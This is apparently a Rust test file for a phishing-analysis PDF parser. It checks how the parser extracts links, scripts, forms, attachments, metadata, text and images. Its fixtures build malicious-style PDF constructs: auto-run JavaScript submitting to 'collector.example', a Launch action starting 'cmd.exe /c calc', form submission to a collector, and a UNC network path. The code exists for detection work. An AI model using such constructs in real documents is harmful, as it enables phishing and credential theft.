//! What people write and what phishers do with it: links, forms, scripts, attached files, encryption.

use super::writer::{Kind, Writer, deflated};
use super::{at, details, of_kind, opened, opened_with};
use crate::member::{MemberKind, Of};
use creel_evidence::dissection::{AnomalyKind, FeatureKind, LinkContext};

const LINK: &str = "/Annots [<< /Type /Annot /Subtype /Link /Rect [70 690 300 720] \
                    /A << /S /URI /URI (https://collector.example/a\\(1\\)) >> >>]";

/// A page with a link, in all ways in which it can be written.
fn linking() -> Writer {
    Writer::pages(&["BT /F1 12 Tf 72 700 Td (Open the invoice) Tj ET"], LINK)
}

#[test]
fn a_link_points_to_the_bytes_in_which_it_stands() {
    let bytes = linking().classic();
    let out = opened(&bytes);
    assert_eq!(out.anomalies, []);
    let link = &out.links[0];
    assert_eq!((link.raw.as_str(), link.context), ("https://collector.example/a(1)", LinkContext::Document));
    assert!(link.visible);
    assert_eq!(link.at.of, Of::Own);
    assert_eq!(at(&bytes, &out, link.at), br"(https://collector.example/a\(1\))");
    assert_eq!(out.links.len(), 1);
}

#[test]
fn a_link_out_of_an_object_stream_points_into_the_object() {
    let bytes = linking().packed();
    let out = opened(&bytes);
    assert_eq!(out.anomalies, []);
    let link = &out.links[0];
    assert!(matches!(link.at.of, Of::Member(_)));
    assert_eq!(at(&bytes, &out, link.at), br"(https://collector.example/a\(1\))");
    assert!(link.visible);
}

#[test]
fn every_encryption_opens_with_the_readers_and_the_owners_password() {
    for kind in Kind::ALL {
        let bytes = linking().encrypted(kind, "4711", "the owner").classic();
        for word in ["4711", "the owner"] {
            let out = opened_with(&bytes, &["wrong", word, "4712"]);
            assert_eq!(out.anomalies, [], "{kind:?}");
            assert_eq!(out.links[0].raw, "https://collector.example/a(1)", "{kind:?} {word}");
            assert_eq!(at(&bytes, &out, out.links[0].at), br"(https://collector.example/a\(1\))");
            assert_eq!(out.members[0].password.as_deref(), Some(word));
            assert!(details(&out, FeatureKind::Encrypted)[0].ends_with("opened with a password"));
        }
        let locked = opened_with(&bytes, &["wrong"]);
        assert!(locked.members.is_empty() && locked.links.is_empty());
        assert_eq!(locked.anomalies[0], (AnomalyKind::UnreadableArchive, "document is encrypted".to_owned()));
        let open = linking().encrypted(kind, "", "the owner").classic();
        let out = opened(&open);
        assert_eq!(out.links[0].raw, "https://collector.example/a(1)");
        assert_eq!(out.members[0].password, None);
    }
}

#[test]
fn scripts_are_code_and_what_runs_by_itself_is_said() {
    let mut writer = linking();
    writer.object(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 6 0 R >> >>");
    writer.object(
        5,
        "<< /S /JavaScript /JS (app.alert\\('a'\\); this.submitForm\\('https://collector.example/f'\\)) >>",
    );
    writer.object(6, "<< /Names [(start) 7 0 R] >>");
    writer.object(7, "<< /S /JavaScript /JS 8 0 R >>");
    writer.stream(8, "/Filter /FlateDecode", &deflated(b"app.launchURL('https://other.example/')"));
    for bytes in [writer.classic(), writer.packed(), writer.encrypted(Kind::Aes128, "", "o").classic()] {
        let out = opened(&bytes);
        let mut code: Vec<String> = of_kind(&out, MemberKind::Code)
            .iter()
            .map(|code| String::from_utf8_lossy(&code.bytes).into_owned())
            .collect();
        code.sort();
        assert_eq!(
            code,
            [
                "app.alert('a'); this.submitForm('https://collector.example/f')",
                "app.launchURL('https://other.example/')"
            ]
        );
        assert_eq!(
            details(&out, FeatureKind::DocumentScript),
            ["JavaScript, 62 bytes", "JavaScript, 39 bytes"]
        );
        assert_eq!(
            details(&out, FeatureKind::AutoRun),
            ["JavaScript when the document is opened", "named scripts run when the document is opened"]
        );
    }
}

#[test]
fn programs_other_documents_and_collectors_are_said() {
    let mut writer = Writer::pages(&[""], "");
    writer.object(5, "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>");
    writer.object(6, "<< /S /GoToR /F << /FS /URL /F (https://other.example/doc.pdf) >> >>");
    writer.object(7, "<< /S /SubmitForm /F << /FS /URL /F (https://collector.example/post) >> /Flags 4 /Fields [(a) (b)] >>");
    writer.object(8, r"<< /S /GoToE /F (\\\\192.0.2.7\\share\\a.pdf) >>");
    let out = opened(&writer.classic());
    assert_eq!(details(&out, FeatureKind::Launch), ["starts cmd.exe /c calc"]);
    assert_eq!(
        details(&out, FeatureKind::ExternalResource),
        ["another document: https://other.example/doc.pdf", r"another document: \\192.0.2.7\share\a.pdf"]
    );
    assert_eq!(details(&out, FeatureKind::NetworkPath), [r"\\192.0.2.7\share\a.pdf"]);
    let links: Vec<_> = out.links.iter().map(|link| (link.raw.as_str(), link.context)).collect();
    assert_eq!(
        links,
        [
            ("https://other.example/doc.pdf", LinkContext::Document),
            ("https://collector.example/post", LinkContext::Form)
        ]
    );
}

#[test]
fn a_form_shows_its_fields_and_what_is_filled_in() {
    let mut writer = Writer::pages(&[""], "");
    writer.object(
        1,
        "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R 6 0 R] /XFA [(template) 8 0 R] >> >>",
    );
    writer.object(5, "<< /T (account) /Kids [7 0 R] /FT /Tx >>");
    writer.object(7, "<< /Parent 5 0 R /T (mail) /V (ann@corp.example) >>");
    writer.object(6, "<< /T <FEFF0050> /FT /Tx /Ff 8192 >>");
    writer.stream(8, "", b"<template><submit target='https://collector.example/xfa'/></template>");
    let out = opened(&writer.classic());
    assert_eq!(
        details(&out, FeatureKind::FormField),
        ["text account", "text account.mail, filled in: ann@corp.example", "password P", "XFA form"]
    );
    assert_eq!(of_kind(&out, MemberKind::Text).last().unwrap().bytes, b"account.mail: ann@corp.example\n");
    assert!(of_kind(&out, MemberKind::Code)[0].bytes.starts_with(b"<template>"));
}

#[test]
fn attached_files_come_out_with_their_names() {
    let mut writer = Writer::pages(&[""], "");
    writer.object(5, "<< /Type /Filespec /F (page.html) /EF << /F 6 0 R >> >>");
    writer.stream(
        6,
        "/Type /EmbeddedFile /Subtype /text#2Fhtml /Filter /FlateDecode",
        &deflated(b"<html>x</html>"),
    );
    let bytes = writer.classic();
    let out = opened(&bytes);
    let [file] = of_kind(&out, MemberKind::File)[..] else { panic!("one file") };
    assert_eq!(file.bytes, b"<html>x</html>");
    assert_eq!((file.name.as_deref(), file.declared_type.as_deref()), (Some("page.html"), Some("text/html")));
    assert_eq!(&bytes[file.name_at.unwrap().range()], b"(page.html)");
    assert_eq!(details(&out, FeatureKind::EmbeddedObject), ["page.html"]);
}

#[test]
fn who_made_it_and_how_often_it_was_changed_is_said() {
    let mut writer = linking();
    writer
        .object(5, "<< /Producer (Some Library 1.0) /CreationDate (D:20240102030405Z) /Author <FEFF00C4> >>");
    writer.trailer = "/Info 5 0 R /ID [<0102> <0102>]".to_owned();
    let first = writer.classic();
    let out = opened(&first);
    assert_eq!(
        details(&out, FeatureKind::Metadata),
        ["author: Ä", "producer: Some Library 1.0", "created: D:20240102030405Z", "identifier: 0102"]
    );
    assert!(details(&out, FeatureKind::Revision).is_empty());
    // A change that is saved behind the file: the object counts anew, and the old one is still found.
    let change = linking_to("https://later.example/");
    let start = first.len();
    let mut second = first;
    second.extend(format!("10 0 obj\n{change}\nendobj\n").bytes());
    let table = second.len();
    let old = memchr::memmem::rfind(&second[..start], b"xref\n0").unwrap();
    second.extend(
        format!(
            "xref\n10 1\n{start:010} 00000 n \ntrailer\n<< /Root 1 0 R /Size 12 /Prev {old} >>\nstartxref\n{table}\n%%EOF\n"
        )
        .bytes(),
    );
    let out = opened(&second);
    assert_eq!(details(&out, FeatureKind::Revision), ["1 changes saved behind the document"]);
    let links: Vec<_> = out.links.iter().map(|link| (link.raw.as_str(), link.visible)).collect();
    assert_eq!(links, [("https://collector.example/a(1)", false), ("https://later.example/", true)]);
}

fn linking_to(url: &str) -> String {
    format!(
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [<< /Subtype /Link /Rect [0 0 50 50] \
         /A << /S /URI /URI ({url}) >> >>] >>"
    )
}

#[test]
fn a_document_of_no_guile_says_nothing() {
    let mut writer = Writer::pages(&["BT /F1 12 Tf 72 700 Td (Agenda) Tj ET"], "");
    writer.object(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction [10 0 R /Fit] /Outlines 5 0 R >>");
    writer.object(5, "<< /First 6 0 R /Last 6 0 R >>");
    writer.object(6, "<< /Title (Chapter) /Parent 5 0 R /A << /S /GoTo /D [10 0 R /Fit] >> >>");
    for bytes in [writer.classic(), writer.packed()] {
        let out = opened(&bytes);
        assert_eq!((out.features, out.links, out.anomalies), (vec![], vec![], vec![]));
    }
}

/// The text of all pages.
fn texts(bytes: &[u8]) -> Vec<String> {
    let out = opened(bytes);
    of_kind(&out, MemberKind::Text).iter().map(|m| String::from_utf8(m.bytes.clone()).unwrap()).collect()
}

#[test]
fn pages_are_text_in_the_order_in_which_a_reader_sees_it() {
    let page = "BT /F1 12 Tf 72 600 Td (at the bottom) Tj ET \
                BT /F1 12 Tf 1 0 0 1 72 700 Tm [(In) 20 (voice) -300 (4711)] TJ 0 -14 TD (is ) Tj (due) Tj (soon) ' ET";
    let second = "q 2 0 0 2 0 0 cm /Form Do Q";
    let mut writer =
        Writer::pages(&[page, second], "/Resources << /Font << /F1 5 0 R >> /XObject << /Form 6 0 R >> >>");
    writer.object(5, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>");
    writer.stream(6, "/Type /XObject /Subtype /Form", b"BT /F1 6 Tf 10 10 Td (in a form: \\200 5) Tj ET");
    for bytes in [writer.classic(), writer.packed(), writer.encrypted(Kind::Rc4Of40, "", "o").classic()] {
        assert_eq!(texts(&bytes), ["Invoice 4711\nis due\nsoon\n\nat the bottom\n", "in a form: € 5\n"]);
    }
}

#[test]
fn fonts_say_which_characters_their_glyphs_are() {
    let page = "BT /F1 10 Tf 72 700 Td (\\001\\002) Tj ET BT /F2 10 Tf 72 600 Td <00010002> Tj ET \
                BT /F3 10 Tf 72 500 Td <5BC67801> Tj ET BT /F4 10 Tf 72 400 Td <000100020003000400050006> Tj ET";
    let fonts = "/Resources << /Font << /F1 5 0 R /F2 6 0 R /F3 7 0 R /F4 8 0 R >> >>";
    let mut writer = Writer::pages(&[page], fonts);
    writer.object(5, "<< /Subtype /Type1 /Encoding << /Differences [1 /Eacute /uni0416] >> >>");
    writer.object(
        6,
        "<< /Subtype /Type0 /Encoding /Identity-H /ToUnicode 9 0 R /DescendantFonts [<< /DW 500 >>] >>",
    );
    writer.object(7, "<< /Subtype /Type0 /Encoding /UniGB-UCS2-H /DescendantFonts [<< >>] >>");
    writer.object(8, "<< /Subtype /Type0 /Encoding /Identity-H /DescendantFonts [<< >>] >>");
    writer.stream(9, "", b"1 beginbfrange <0001> <0002> <0058> endbfrange");
    let unreadable = "\u{fffd}".repeat(6);
    assert_eq!(texts(&writer.classic()), [format!("ÉЖ\n\nXY\n\n密码\n\n{unreadable}\n")]);
    assert!(details(&opened(&writer.classic()), FeatureKind::UnmappedText).is_empty());
    let hidden = format!("BT /F4 10 Tf 72 400 Td <{}> Tj ET", "0102".repeat(30));
    writer.stream(11, "", hidden.as_bytes());
    let out = opened(&writer.classic());
    assert_eq!(details(&out, FeatureKind::UnmappedText), ["30 of 30 glyphs of page 1"]);
}

#[test]
fn what_stands_beneath_a_link_is_its_text() {
    let mut writer = Writer::pages(
        &["BT /F1 12 Tf 72 700 Td (Open the invoice) Tj ET BT 3 Tr 72 650 Td (unseen) Tj ET"],
        &format!("{LINK} /Resources << /Font << /F1 5 0 R >> >>"),
    );
    writer.object(5, "<< /Subtype /TrueType >>");
    let out = opened(&writer.classic());
    assert_eq!(out.links[0].text, "Open the invoice");
    assert_eq!(details(&out, FeatureKind::InvisibleText), ["6 characters of page 1"]);
}

#[test]
fn what_an_annotation_looks_like_is_text_of_the_page() {
    let mut writer = Writer::pages(
        &["BT /F1 12 Tf 72 700 Td (above) Tj ET"],
        "/Annots [<< /Subtype /FreeText /Rect [72 600 200 620] /AP << /N 5 0 R >> >> \
         << /Subtype /Widget /Rect [72 500 80 508] /AS /On /AP << /N << /On 6 0 R >> >> >>]",
    );
    writer.stream(5, "/Subtype /Form /BBox [0 0 128 20]", b"BT /F1 12 Tf 2 4 Td (pay here) Tj ET");
    writer.stream(6, "/Subtype /Form /BBox [0 0 8 8]", b"BT /F1 8 Tf (x) Tj ET");
    assert_eq!(texts(&writer.classic()), ["above\n\npay here\n\nx\n"]);
}

/// The width and height of a BMP and the pixels of its grey.
fn bitmap(file: &[u8]) -> (i32, i32, &[u8]) {
    let number = |at: usize| i32::from_le_bytes(file[at..at + 4].try_into().unwrap());
    (number(18), -number(22), &file[number(10) as usize..])
}

#[test]
fn pictures_are_files_that_others_read() {
    let names = "/Resources << /XObject << /A 5 0 R /B 6 0 R /C 8 0 R /D 9 0 R >> >>";
    let mut writer = Writer::pages(
        &["/A Do /B Do /C Do /D Do BI /W 4 /H 2 /CS /G /BPC 8 ID \x01\x02\x03\x04\x05\x06\x07\x08 EI"],
        names,
    );
    writer.stream(
        5,
        "/Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceRGB /Filter /DCTDecode",
        b"\xff\xd8 jpeg",
    );
    writer.stream(
        6,
        "/Subtype /Image /Width 4 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /SMask 7 0 R \
         /Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 4 >>",
        &deflated(&[1, 10, 10, 10, 10]),
    );
    writer.stream(
        7,
        "/Subtype /Image /Width 4 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8",
        &[255, 255, 0, 0],
    );
    writer.stream(8, "/Subtype /Image /ImageMask true /Width 4 /Height 1", &[0b0101_0000]);
    // One row of a fax: a vertical mode all along is white, and two rows of it.
    writer.stream(
        9,
        "/Subtype /Image /Width 8 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 1 \
         /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 8 /Rows 1 >>",
        &[0b1000_0000, 0b0000_1000, 0b0000_0000, 0b1000_0000],
    );
    let out = opened(&writer.classic());
    let files: Vec<&[u8]> = of_kind(&out, MemberKind::Picture).iter().map(|m| m.bytes.as_slice()).collect();
    let [inline, jpeg, masked, stencil, fax] = files[..] else {
        panic!("five pictures, not {}", files.len())
    };
    assert_eq!(jpeg, b"\xff\xd8 jpeg");
    assert_eq!(bitmap(inline), (4, 2, &[1, 2, 3, 4, 5, 6, 7, 8][..]));
    assert_eq!(bitmap(masked), (4, 1, &[10, 20, 255, 255][..]));
    assert_eq!(bitmap(stencil), (4, 1, &[0, 255, 0, 255][..]));
    assert_eq!(bitmap(fax), (8, 1, &[255; 8][..]));
}

#[test]
fn a_code_that_is_drawn_with_squares_is_a_picture() {
    // A board of 21 by 21 modules, drawn once as squares and once as one path.
    let modules: Vec<(usize, usize)> =
        (0..441).map(|i| (i % 21, i / 21)).filter(|(x, y)| (x * 7 + y * 5) % 3 != 0).collect();
    let squares: String =
        modules.iter().map(|(x, y)| format!("{} {} 2 2 re f\n", 100 + 2 * x, 400 + 2 * y)).collect();
    let path: String =
        modules.iter().map(|(x, y)| format!("{} {} 2 2 re\n", 100 + 2 * x, 400 + 2 * y)).collect();
    for content in [format!("0 g {squares}"), format!("0 0 0 rg {path} f*")] {
        let out = opened(&Writer::pages(&[&content], "").classic());
        let [picture] = of_kind(&out, MemberKind::Picture)[..] else { panic!("one picture") };
        let (width, height, pixels) = bitmap(&picture.bytes);
        assert_eq!((width, height), (21 * 4 + 32, 21 * 4 + 32));
        let middle = |x: usize, y: usize| pixels[(16 + 4 * (20 - y) + 2) * width as usize + 16 + 4 * x + 2];
        for i in 0..441 {
            let (x, y) = (i % 21, i / 21);
            assert_eq!(middle(x, y) == 0, modules.contains(&(x, y)), "{x} {y}");
        }
    }
}
